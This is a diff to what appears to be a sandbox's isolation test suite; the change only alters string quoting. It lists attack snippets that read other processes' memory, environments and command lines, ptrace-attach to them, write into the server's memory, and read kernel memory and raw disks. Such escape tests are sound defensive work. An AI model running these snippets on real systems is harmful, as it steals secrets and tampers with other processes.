@@ -8,16 +8,16 @@ from .attack import Attack
 VICTIM = 'SOLUTION = "@PREVIOUS@"\ndef solve(n):\n    return n + len(SOLUTION)'
 WAITING_VICTIM = 'SOLUTION = "@PREVIOUS@"\ndef solve(n):\n    time.sleep(0.9)\n    return len(SOLUTION)'
 
-_MAPS = '''
+_MAPS = """
 def maps(pid):
     for line in open(f"/proc/{pid}/maps"):
         span, mode, *rest = line.split()
         if mode[0] == "r" and "[v" not in line:
             start, end = (int(x, 16) for x in span.split("-"))
             yield start, min(end, start + (64 << 20))
-'''
+"""
 
-_READV = '''
+_READV = """
 class Span(ctypes.Structure):
     _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
 def read_memory(pid, address, length):
@@ -27,13 +27,13 @@ def read_memory(pid, address, length):
     if got < 0:
         raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
     return buffer.raw[:got]
-'''
+"""
 
 ATTACKS = (
     Attack(
         "garbage-collector",
         "Searches every object that the collector knows for the text of the answer before.",
-        '''
+        """
 import gc
 def attack():
     for item in gc.get_objects():
@@ -44,14 +44,14 @@ def attack():
         if got:
             return got
     return "nothing"
-''',
+""",
         before=VICTIM,
         calls=2,
     ),
     Attack(
         "frames",
         "Walks the frames below its own and prints their locals and globals.",
-        '''
+        """
 def attack():
     frame = sys._getframe()
     while frame:
@@ -60,13 +60,13 @@ def attack():
             return got
         frame = frame.f_back
     return "nothing"
-''',
+""",
         before=VICTIM,
     ),
     Attack(
         "modules",
         "Looks through every loaded module, the line cache and the last traceback.",
-        '''
+        """
 import linecache
 def attack():
     for name, module in list(sys.modules.items()):
@@ -75,7 +75,7 @@ def attack():
             if got:
                 return f"{name}.{key} {got}"
     return canary_in(repr(linecache.cache) + repr(getattr(sys, "last_value", "")))
-''',
+""",
         before=VICTIM,
         calls=2,
     ),
@@ -83,14 +83,14 @@ def attack():
         "own-memory",
         "Reads all memory that this process was forked with, page by page.",
         _MAPS
-        + '''
+        + """
 def attack():
     for start, end in maps("self"):
         got = canary_in(ctypes.string_at(start, end - start))
         if got:
             return got
     return "nothing"
-''',
+""",
         before=VICTIM,
         calls=2,
     ),
@@ -98,7 +98,7 @@ def attack():
         "own-memory-without-maps",
         "Reads the memory around its own objects with process_vm_readv, without asking /proc where that is.",
         _READV
-        + '''
+        + """
 def attack():
     def scan(anchor):
         for address in range((anchor & ~0xFFFFF) - (48 << 20), anchor + (48 << 20), 1 << 20):
@@ -113,14 +113,14 @@ def attack():
                 return got
         return None
     return first([lambda: scan(id(object())), lambda: scan(id(sys)), lambda: scan(id(bytearray(1 << 22)))])
-''',
+""",
         before=VICTIM,
         calls=2,
     ),
     Attack(
         "freed-memory",
         "Allocates memory without clearing it and reads what was there.",
-        '''
+        """
 libc.malloc.restype = ctypes.c_void_p
 def attack():
     for size in [48, 100, 300, 1000, 3000, 9000, 30000, 100000, 1000000]:
@@ -129,7 +129,7 @@ def attack():
             if got:
                 return got
     return "nothing"
-''',
+""",
         before=VICTIM,
         calls=2,
     ),
@@ -137,7 +137,7 @@ def attack():
         "own-proc-mem",
         "Reads /proc/self/mem where ctypes is forbidden.",
         _MAPS
-        + '''
+        + """
 def attack():
     memory = open("/proc/self/mem", "rb", 0)
     for start, end in maps("self"):
@@ -149,7 +149,7 @@ def attack():
         if got:
             return got
     return "nothing"
-''',
+""",
         before=VICTIM,
         calls=2,
     ),
@@ -157,7 +157,7 @@ def attack():
         "memory-of-all-processes",
         "Reads /proc/PID/mem of the server, of init, of the owner and of every process it can name.",
         _MAPS
-        + '''
+        + """
 def attack():
     def scan(pid):
         spans = list(maps(pid))
@@ -172,7 +172,7 @@ def attack():
                 return got
         return f"ESCAPED: read the memory of {pid}"
     return first([lambda p=p: scan(p) for p in pids()])
-''',
+""",
         before=VICTIM,
         calls=2,
         teeth=True,
@@ -181,11 +181,11 @@ def attack():
         "process-vm-readv",
         "Reads the memory of other processes with process_vm_readv at the addresses of its own objects.",
         _READV
-        + '''
+        + """
 def attack():
     address = id(sys) & ~0xFFF
     return first([lambda p=p: read_memory(p, address, 4096) and f"ESCAPED: read the memory of {p}" for p in pids()])
-''',
+""",
         before=VICTIM,
         calls=2,
         teeth=True,
@@ -194,7 +194,7 @@ def attack():
         "process-vm-writev",
         "Writes into the memory of the server.",
         _READV
-        + '''
+        + """
 def attack():
     def poke(pid):
         text = ctypes.create_string_buffer(b"x", 1)
@@ -203,19 +203,19 @@ def attack():
             raise OSError(ctypes.get_errno(), "writev")
         return f"ESCAPED: wrote to {pid}"
     return first([lambda: poke(os.getppid()), lambda: poke(@OWNER@)])
-''',
+""",
     ),
     Attack(
         "ptrace-attach",
         "Attaches to the server and to every process as a debugger.",
-        '''
+        """
 def attack():
     def trace(pid):
         syscall(101, 16, pid, 0, 0)
         syscall(101, 17, pid, 0, 0)
         return f"ESCAPED: traced {pid}"
     return first([lambda p=p: trace(p) for p in pids()])
-''',
+""",
     ),
     Attack(
         "ptrace-seize",
@@ -225,7 +225,7 @@ def attack():
     Attack(
         "process-lists",
         "Reads command line, environment, working directory, open files and maps of every process.",
-        '''
+        """
 def attack():
     def look(pid):
         environment = open(f"/proc/{pid}/environ", "rb").read()
@@ -233,13 +233,13 @@ def attack():
     def files(pid):
         return [os.readlink(f"/proc/{pid}/fd/{fd}") for fd in os.listdir(f"/proc/{pid}/fd")] and f"ESCAPED: files of {pid}"
     return first([lambda p=p: look(p) for p in pids()] + [lambda p=p: files(p) for p in pids()])
-''',
+""",
         teeth=True,
     ),
     Attack(
         "command-lines",
         "Reads the command lines of processes that are not its own family, where secrets like to stand.",
-        '''
+        """
 def attack():
     for pid in pids():
         try:
@@ -249,7 +249,7 @@ def attack():
         if got:
             return got
     return "nothing"
-''',
+""",
         teeth=True,
     ),
     Attack(
@@ -258,12 +258,12 @@ def attack():
         'SECRET = "left-in-core"\ndef attack():\n    import resource\n'
         "    resource.setrlimit(resource.RLIMIT_CORE, (resource.getrlimit(resource.RLIMIT_CORE)[1],) * 2)\n"
         "    os.abort()",
-        then='''
+        then="""
 import glob
 def attack():
     cores = [p for d in ("/tmp", "/var/crash", "/var/lib/systemd/coredump", ".", "/") for p in glob.glob(d + "/*core*")]
     return [p for p in cores if os.path.isfile(p)] and f"ESCAPED: {cores}"
-''',
+""",
         calls=2,
     ),
     Attack(
@@ -271,7 +271,7 @@ def attack():
         "Hunts another answer that runs at this moment, through /proc and process_vm_readv.",
         _MAPS
         + _READV
-        + '''
+        + """
 def attack():
     def scan(pid):
         for start, end in list(maps(pid))[:300]:
@@ -288,19 +288,19 @@ def attack():
         if canary_in(got):
             return got
     return got
-''',
+""",
         beside=WAITING_VICTIM,
         calls=2,
     ),
     Attack(
         "files-of-the-answer-beside",
         "Opens the private working directory of another answer through /proc/PID/cwd and /proc/PID/root.",
-        '''
+        """
 def attack():
     def look(pid, link):
         return os.listdir(f"/proc/{pid}/{link}") and f"ESCAPED: {link} of {pid}"
     return first([lambda p=p, link=link: look(p, link) for p in pids() for link in ("cwd", "root")])
-''',
+""",
         beside='def solve(n):\n    open("notes", "w").write("@PREVIOUS@")\n    time.sleep(0.9)\n    return 1',
         calls=2,
         teeth=True,
@@ -308,14 +308,14 @@ def attack():
     Attack(
         "kernel-memory",
         "Reads physical and kernel memory and raw disks through their device files.",
-        '''
+        """
 def attack():
     def look(path):
         return os.pread(os.open(path, os.O_RDONLY), 64, 0) and "ESCAPED: read " + path
     paths = ["/dev/mem", "/dev/kmem", "/dev/port", "/proc/kcore", "/dev/kmsg", "/dev/vda", "/dev/sda", "/dev/nvme0n1",
              "/dev/fuse", "/dev/loop0", "/proc/kmsg", "/proc/kallsyms", "/dev/disk0"]
     return first([lambda p=p: look(p) for p in paths])
-''',
+""",
         teeth=True,
     ),
 )
